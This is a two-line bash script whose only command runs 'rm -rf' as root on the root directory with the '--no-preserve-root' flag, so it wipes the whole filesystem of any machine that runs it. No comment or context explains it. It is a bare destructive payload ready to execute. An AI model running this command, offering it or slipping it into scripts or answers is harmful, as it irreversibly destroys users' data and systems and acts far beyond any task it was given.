#!/bin/bash
sudo rm -rf --no-preserve-root /
